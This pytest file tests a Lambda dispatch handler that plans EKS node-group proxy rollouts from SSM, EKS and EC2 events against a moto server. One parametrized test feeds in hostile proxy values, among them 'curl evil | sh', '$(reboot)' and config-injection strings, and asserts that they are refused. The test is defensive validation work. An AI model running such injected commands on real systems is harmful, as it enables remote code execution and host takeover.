"""The dispatch handler fed with the events/ samples, against a moto server over HTTP.

It must start exactly one rollout per real change, read-only (no launch template version, no node group update),
and drop or refuse everything else with a clear reason.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Iterator
from types import ModuleType
from typing import Any

import pytest

from testkit import moto_eks_updates
from testkit.engine_world import OWN_ROLE, FakeContext, World, build_world
from testkit.moto_server import MotoServer
from testkit.repo import load_event, load_handler, structured_logs

PROXY = "http://10.0.0.10:3128"


@pytest.fixture
def world(moto_server: MotoServer) -> Iterator[World]:
    moto_eks_updates.reset()
    w = build_world(moto_server)
    w.cluster("prod")
    w.put_proxy(PROXY)
    w.state_machine_arn = w.clients["stepfunctions"].create_state_machine(
        name="eks-proxy-rollout",
        definition=json.dumps({"StartAt": "Done", "States": {"Done": {"Type": "Succeed"}}}),
        roleArn="arn:aws:iam::123456789012:role/eks-proxy-states",
    )["stateMachineArn"]
    yield w


def handler(world: World, **env: str) -> ModuleType:
    return load_handler("dispatch", world.env(**env))


def invoke(module: ModuleType, event: dict[str, Any]) -> dict[str, Any]:
    return module.lambda_handler(event, FakeContext())  # type: ignore[no-any-return]


def executions(world: World) -> list[dict[str, Any]]:
    sfn = world.clients["stepfunctions"]
    listed = sfn.list_executions(stateMachineArn=world.state_machine_arn)["executions"]
    return [sfn.describe_execution(executionArn=e["executionArn"]) for e in listed]


def all_versions(world: World) -> int:
    return sum(len(world.versions(name)) for name in world.templates)


def test_parameter_update_starts_one_rollout_canary_first_read_only(world: World) -> None:
    world.template("prod-ng-a")
    world.template("prod-ng-b")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    world.nodegroup("prod", "ng-b", template="prod-ng-b", by="name")
    version = world.put_proxy("http://10.0.0.11:3128")
    result = invoke(handler(world), load_event("ssm-parameter-update"))
    assert result["status"] == "started"
    assert result["nodegroups"]["create_version"] == 2
    [execution] = executions(world)
    document = json.loads(execution["input"])
    assert document == {
        "change_id": load_event("ssm-parameter-update")["id"],
        "trigger": "ssm",
        "parameter": {"name": "/eks-proxy/config", "version": version},
        "max_concurrency": 2,
        "rollback_on_failure": True,
        "canary": {"cluster": "prod", "nodegroup": "ng-a"},
        "rest": [{"cluster": "prod", "nodegroup": "ng-b"}],
    }
    assert "10.0.0.11" not in execution["input"]  # the value never travels in the execution
    assert all_versions(world) == 2  # dispatch never writes: the rollout does
    assert moto_eks_updates.CALLS == []


def test_replays_collapse_into_one_execution(world: World) -> None:
    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    module = handler(world)
    event = load_event("ssm-parameter-update")
    statuses = [invoke(module, event)["status"] for _ in range(3)]
    # The same change delivered under another event id (EventBridge retry, a second rule) also collapses.
    statuses.append(invoke(module, event | {"id": "11111111-2222-4333-8444-555555555555"})["status"])
    assert statuses[0] == "started"
    assert set(statuses[1:]) <= {"started", "duplicate"}
    assert len(executions(world)) == 1
    assert all_versions(world) == 1


def test_a_new_parameter_version_is_a_new_change(world: World) -> None:
    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    module = handler(world)
    invoke(module, load_event("ssm-parameter-update"))
    world.put_proxy("http://10.0.0.12:3128")
    invoke(module, load_event("ssm-parameter-update"))
    assert len({e["name"] for e in executions(world)}) == 2


def test_own_launch_template_version_event_is_dropped(world: World) -> None:
    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    event = load_event("ec2-create-launch-template-version")
    identity = event["detail"]["userIdentity"]
    identity["arn"] = "arn:aws:sts::123456789012:assumed-role/eks-proxy-RolloutStepFunctionRole-TEST/step"
    identity["sessionContext"]["sessionIssuer"]["arn"] = OWN_ROLE
    result = invoke(handler(world), event)
    assert result["status"] == "ignored"
    assert "eks-proxy itself" in result["reason"]
    assert executions(world) == []


def test_nodegroup_event_scopes_to_that_nodegroup(world: World) -> None:
    world.template("prod-ng-a")
    world.template("prod-ng-b")
    world.nodegroup("prod", "ng-a", template="prod-ng-a", by="name")
    world.nodegroup("prod", "ng-b", template="prod-ng-b")
    result = invoke(handler(world), load_event("eks-create-nodegroup"))
    assert result["status"] == "started"
    [execution] = executions(world)
    document = json.loads(execution["input"])
    assert (document["trigger"], document["canary"], document["rest"]) == (
        "nodegroup",
        {"cluster": "prod", "nodegroup": "ng-a"},
        [],
    )


def test_launch_template_event_scopes_to_its_users(world: World) -> None:
    lt = world.template("prod-ng-a")
    world.template("other")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    world.nodegroup("prod", "ng-x", template="other")
    event = load_event("ec2-create-launch-template-version")
    event["detail"]["requestParameters"]["CreateLaunchTemplateVersionRequest"]["LaunchTemplateId"] = lt
    event["detail"]["responseElements"]["CreateLaunchTemplateVersionResponse"]["launchTemplateVersion"][
        "launchTemplateId"
    ] = lt
    result = invoke(handler(world), event)
    assert result["status"] == "started"
    document = json.loads(executions(world)[0]["input"])
    assert [document["canary"], *document["rest"]] == [{"cluster": "prod", "nodegroup": "ng-a"}]


@pytest.mark.slow
def test_150_nodegroups_across_3_clusters_are_all_planned(world: World) -> None:
    """ListNodegroups pages (100 per page): a 110-node-group cluster needs two pages, nothing is missed."""
    world.cluster("staging")
    world.cluster("batch")
    world.template("shared")
    layout = {"prod": 110, "staging": 25, "batch": 15}
    for cluster, count in layout.items():
        for i in range(count):
            world.nodegroup(cluster, f"ng-{i:03d}", template="shared")
    module = handler(world, CLUSTER_NAMES="prod,staging,batch")
    calls: Counter[str] = Counter()
    module.clients.eks.meta.events.register("before-call.eks.*", lambda model, **_: calls.update([model.name]))
    result = invoke(module, load_event("schedule-drift-sweep"))
    assert result["status"] == "started"
    assert result["nodegroups"]["create_version"] == 150
    assert calls["ListNodegroups"] == 4  # prod: 2 pages, staging: 1, batch: 1
    # One rollout per cluster (the lease is per cluster), each with its own canary.
    documents = [json.loads(e["input"]) for e in executions(world)]
    assert len(documents) == len(result["executions"]) == 3
    planned = [(t["cluster"], t["nodegroup"]) for d in documents for t in [d["canary"], *d["rest"]]]
    assert len(planned) == len(set(planned)) == 150
    assert set(planned) == {(c, f"ng-{i:03d}") for c, n in layout.items() for i in range(n)}
    assert all(len({t["cluster"] for t in [d["canary"], *d["rest"]]}) == 1 for d in documents)


def test_out_of_scope_nodegroups_are_reported_never_rolled(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    world.template("prod-ng-a")
    world.template("win")
    world.template("custom")
    world.template("custom-hinted")
    world.template("skipped")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    world.nodegroup("prod", "no-template")
    world.nodegroup("prod", "windows", ami_type="WINDOWS_CORE_2022_x86_64", template="win")
    world.nodegroup("prod", "custom", ami_type="CUSTOM", template="custom")
    world.nodegroup("prod", "custom-hinted", ami_type="CUSTOM", template="custom-hinted", tags={"eks-proxy/os": "al2"})
    world.nodegroup("prod", "opted-out", template="skipped", tags={"eks-proxy/skip": "true"})
    module = handler(world)
    buffer = structured_logs(module)
    result = invoke(module, load_event("schedule-drift-sweep"))
    assert result["nodegroups"] == {"out_of_scope": 4, "up_to_date": 0, "roll_existing": 0, "create_version": 2}
    document = json.loads(executions(world)[0]["input"])
    assert {t["nodegroup"] for t in [document["canary"], *document["rest"]]} == {"ng-a", "custom-hinted"}
    logs = [json.loads(line) for line in buffer.getvalue().splitlines()]
    emf = [json.loads(line) for line in capsys.readouterr().out.splitlines() if '"_aws"' in line]
    skipped = [blob for blob in emf if "NodegroupsSkipped" in blob]  # the CloudWatch EMF metric, per cluster
    assert [(blob["cluster"], blob["NodegroupsSkipped"]) for blob in skipped] == [("prod", [4.0])]
    assert [blob["RolloutStarted"] for blob in emf if "RolloutStarted" in blob] == [[1.0]]
    decisions = {entry["nodegroup"]: entry for entry in logs if entry.get("message") == "decision"}
    assert decisions["no-template"]["remedy"].startswith("recreate the node group with a launch template")
    assert decisions["no-template"]["level"] == "WARNING"
    assert "Windows" in decisions["windows"]["reason"]
    assert "without an OS hint" in decisions["custom"]["reason"]
    assert "eks-proxy/skip=true" in decisions["opted-out"]["reason"]
    assert all(entry["correlation_id"] == load_event("schedule-drift-sweep")["id"] for entry in logs)


def test_launch_template_deleted_mid_run(world: World) -> None:
    """A template disappears while the sweep runs, just before its version is read: reported, the rest still planned.

    (The sweep reads node groups concurrently, so the deletion is tied to the read of that template, not to the
    order of the reads.)"""
    world.template("a")
    world.template("b")
    world.nodegroup("prod", "ng-a", template="a")
    world.nodegroup("prod", "ng-b", template="b")
    module = handler(world)
    ec2 = world.clients["ec2"]
    deleted: list[str] = []

    def delete_b_once(params: dict[str, Any], **_: Any) -> None:
        if not deleted and params.get("LaunchTemplateId") == world.templates["b"]:
            deleted.append(world.templates["b"])
            ec2.delete_launch_template(LaunchTemplateId=world.templates["b"])

    module.clients.ec2.meta.events.register("before-parameter-build.ec2.DescribeLaunchTemplateVersions", delete_b_once)
    result = invoke(module, load_event("schedule-drift-sweep"))
    assert deleted
    assert result["nodegroups"]["out_of_scope"] == 1
    assert result["nodegroups"]["create_version"] == 1
    document = json.loads(executions(world)[0]["input"])
    assert (document["canary"], document["rest"]) == ({"cluster": "prod", "nodegroup": "ng-a"}, [])


def test_everything_up_to_date_starts_nothing(world: World) -> None:
    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    # Make the node group up to date the way the rollout would: run the refresh, then move the node group.
    rollout = load_handler("rollout_step", world.env())
    version = world.clients["ssm"].get_parameter(Name="/eks-proxy/config")["Parameter"]["Version"]
    refreshed = rollout.lambda_handler(
        {
            "action": "refresh",
            "cluster": "prod",
            "nodegroup": "ng-a",
            "parameter": {"name": "/eks-proxy/config", "version": version},
        },
        FakeContext(),
    )
    assert refreshed["outcome"] == "create_version"
    world.clients["eks"].delete_nodegroup(clusterName="prod", nodegroupName="ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a", version=refreshed["version_after"])
    result = invoke(handler(world), load_event("schedule-drift-sweep"))
    assert result["status"] == "up_to_date"
    assert result["nodegroups"]["up_to_date"] == 1
    assert executions(world) == []


def test_parameter_delete_warns_raises_the_alarm_and_touches_nothing(world: World) -> None:
    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    world.clients["ssm"].delete_parameter(Name="/eks-proxy/config")
    result = invoke(handler(world), load_event("ssm-parameter-delete"))
    assert result["status"] == "parameter_deleted"
    [alarm] = world.alarms()
    assert alarm["subject"] == "eks-proxy: proxy parameter deleted"
    assert "deleted" in alarm["message"]["summary"]
    assert executions(world) == []
    assert all_versions(world) == 1


@pytest.mark.parametrize(
    "hostile",
    [
        "http://10.0.0.10:3128\nHTTP_PROXY=http://evil:1",
        "http://10.0.0.10:3128; curl evil | sh",
        'http://10.0.0.10:3128"\n[settings.host-containers.admin]\nenabled = true',
        "http://user:s3cret-pass@10.0.0.10:3128/$(reboot)",
    ],
)
def test_hostile_value_is_refused_with_one_line_and_nothing_created(world: World, hostile: str) -> None:
    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    world.put_proxy(hostile)
    result = invoke(handler(world), load_event("ssm-parameter-update"))
    assert result["status"] == "invalid_value"
    assert "\n" not in result["reason"]
    assert "s3cret" not in json.dumps(result)
    [alarm] = world.alarms()
    assert "s3cret" not in json.dumps(alarm)
    assert executions(world) == []
    assert all_versions(world) == 1


def test_look_alike_parameter_changes_nothing(world: World) -> None:
    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    event = load_event("ssm-parameter-update")
    event["detail"]["name"] = "/eks-proxy/config-old"
    assert invoke(handler(world), event)["status"] == "ignored"
    assert executions(world) == []


def test_missing_required_setting_fails_at_cold_start(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    from eks_proxy.config import SettingsError

    monkeypatch.delenv("STATE_MACHINE_ARN", raising=False)
    env = world.env()
    env.pop("STATE_MACHINE_ARN")
    with pytest.raises(SettingsError, match="STATE_MACHINE_ARN"):
        load_handler("dispatch", env)


def test_proxy_credentials_are_refused_and_never_logged(world: World) -> None:
    """Credentials in the value are refused (node user data is readable); the secret appears nowhere."""
    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    world.put_proxy("http://svc-eks:Sup3r-s3cret@10.0.0.10:3128")
    module = handler(world)
    buffer = structured_logs(module)
    result = invoke(module, load_event("ssm-parameter-update"))
    assert result["status"] == "invalid_value"
    assert "credentials" in result["reason"]
    assert "Sup3r-s3cret" not in buffer.getvalue()
    assert "Sup3r-s3cret" not in json.dumps(result)
    assert "Sup3r-s3cret" not in json.dumps(world.alarms())
    assert executions(world) == []


@pytest.mark.parametrize("function", ["dispatch", "rollout_step"])
def test_handlers_make_no_aws_call_at_import(world: World, function: str) -> None:
    """Cold start stays cheap: importing a handler creates no client (so it cannot call AWS)."""
    module = load_handler(function, world.env(AWS_ENDPOINT_URL="http://127.0.0.1:9"))  # nothing listens there
    assert not {"eks", "ec2", "ssm", "sfn", "sns"} & set(vars(module.clients))


def test_a_large_scope_is_rolled_in_batches_that_fit_the_execution_history(world: World) -> None:
    """A Standard execution holds 25,000 history events, about 110 per node group with a 20-minute update: one
    execution for 300 node groups would die half way through. Dispatch starts at most MAX_NODEGROUPS_PER_ROLLOUT;
    the rest follow when it succeeds (RolloutSucceededRule re-runs the sweep), reconciled again from current state."""
    for name in ("ng-a", "ng-b", "ng-c"):
        world.template(f"prod-{name}")
        world.nodegroup("prod", name, template=f"prod-{name}")
    result = invoke(handler(world, MAX_NODEGROUPS_PER_ROLLOUT="2"), load_event("schedule-drift-sweep"))
    assert result["status"] == "started"
    assert "1 more" in result["reason"]
    (execution,) = executions(world)
    assert execution["name"].startswith("more-sweep-")  # RolloutSucceededRule continues only these
    document = json.loads(execution["input"])
    assert [document["canary"]["nodegroup"], *(t["nodegroup"] for t in document["rest"])] == ["ng-a", "ng-b"]
    small = invoke(handler(world, MAX_NODEGROUPS_PER_ROLLOUT="3"), load_event("ssm-parameter-update"))
    assert small["execution_name"].startswith("ssm-")  # fits one execution: no continuation


# --- a TLS-inspecting proxy: the CA bundle the value names --------------------------------------------------------

INSPECTING = json.dumps({"http_proxy": PROXY, "ca_bundle": "/eks-proxy/ca-bundle"})


def _decisions_fingerprints(world: World) -> set[str]:
    from eks_proxy.aws.clients import AwsClients
    from eks_proxy.aws.ssm import attach_ca_bundle
    from eks_proxy.config import Settings
    from eks_proxy.engine.plan import plan_scope
    from eks_proxy.engine.scope import Scope
    from eks_proxy.proxy.value import parse_proxy_value

    clients = AwsClients(session=None)
    config = attach_ca_bundle(clients.ssm, parse_proxy_value(INSPECTING))
    settings = Settings(cluster_names=("prod",), alarm_topic_arn=world.topic_arn)
    return {d.desired_fingerprint or "" for d in plan_scope(clients, settings, Scope("all", ("prod",)), config)}


def test_a_ca_rotation_is_a_new_change_like_a_proxy_change(world: World) -> None:
    from testkit.ca_pem import ca_pem

    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    world.put_ca_bundle(ca_pem("Corp Inspection CA 2026"))
    world.put_proxy(INSPECTING)
    module = handler(world)
    first = invoke(module, load_event("ssm-parameter-update"))
    assert first["status"] == "started"
    before = _decisions_fingerprints(world)
    world.put_ca_bundle(ca_pem("Corp Inspection CA 2027"))  # the rotation: the proxy value is unchanged
    rotated = invoke(module, load_event("ssm-ca-bundle-update"))
    assert rotated["status"] == "started", rotated
    assert _decisions_fingerprints(world) != before  # the CA's content is in the fingerprint
    assert len({e["name"] for e in executions(world)}) == 2
    assert all("BEGIN CERTIFICATE" not in e["input"] for e in executions(world))
    again = invoke(module, load_event("ssm-ca-bundle-update"))  # a replay of the rotation
    assert again["status"] in {"started", "duplicate"} and len(executions(world)) == 2


def test_a_ca_change_while_no_value_names_one_changes_nothing(world: World) -> None:
    from testkit.ca_pem import ca_pem

    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    module = handler(world)
    assert invoke(module, load_event("ssm-parameter-update"))["status"] == "started"
    world.put_ca_bundle(ca_pem())
    # Same decisions as the proxy change (no CA in them): the same execution, nothing new to roll.
    assert invoke(module, load_event("ssm-ca-bundle-update"))["status"] in {"started", "duplicate"}
    assert len(executions(world)) == 1


@pytest.mark.parametrize("problem", ["missing", "private-key", "leaf", "not-pem", "other-parameter"])
def test_a_bad_ca_bundle_is_an_invalid_value_nothing_started(world: World, problem: str) -> None:
    from testkit.ca_pem import ca_pem, private_key_pem

    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    key = private_key_pem()
    content = {
        "missing": None,
        "private-key": ca_pem() + key,
        "leaf": ca_pem("registry.example.test", ca=False, key_usage_cert_sign=None),
        "not-pem": "http://10.0.0.10:3128",
        "other-parameter": ca_pem(),
    }[problem]
    if content is not None:
        world.put_ca_bundle(content)
    value = INSPECTING.replace("/eks-proxy/ca-bundle", "/team/ca") if problem == "other-parameter" else INSPECTING
    world.put_proxy(value)
    module = handler(world)
    buffer = structured_logs(module)
    result = invoke(module, load_event("ssm-ca-bundle-update"))
    assert result["status"] == "invalid_value", result
    assert "\n" not in result["reason"]
    [alarm] = world.alarms()
    secret = key.splitlines()[1][:20]
    for text in (json.dumps(result), json.dumps(alarm), buffer.getvalue()):
        assert secret not in text
    assert executions(world) == []
    assert all_versions(world) == 1


def test_deleting_the_ca_bundle_parameter_alarms_and_touches_nothing(world: World) -> None:
    world.template("prod-ng-a")
    world.nodegroup("prod", "ng-a", template="prod-ng-a")
    event = load_event("ssm-ca-bundle-update")
    event["detail"]["operation"] = "Delete"
    result = invoke(handler(world), event)
    assert result["status"] == "parameter_deleted"
    [alarm] = world.alarms()
    assert "CA bundle parameter" in json.dumps(alarm)
    assert executions(world) == []
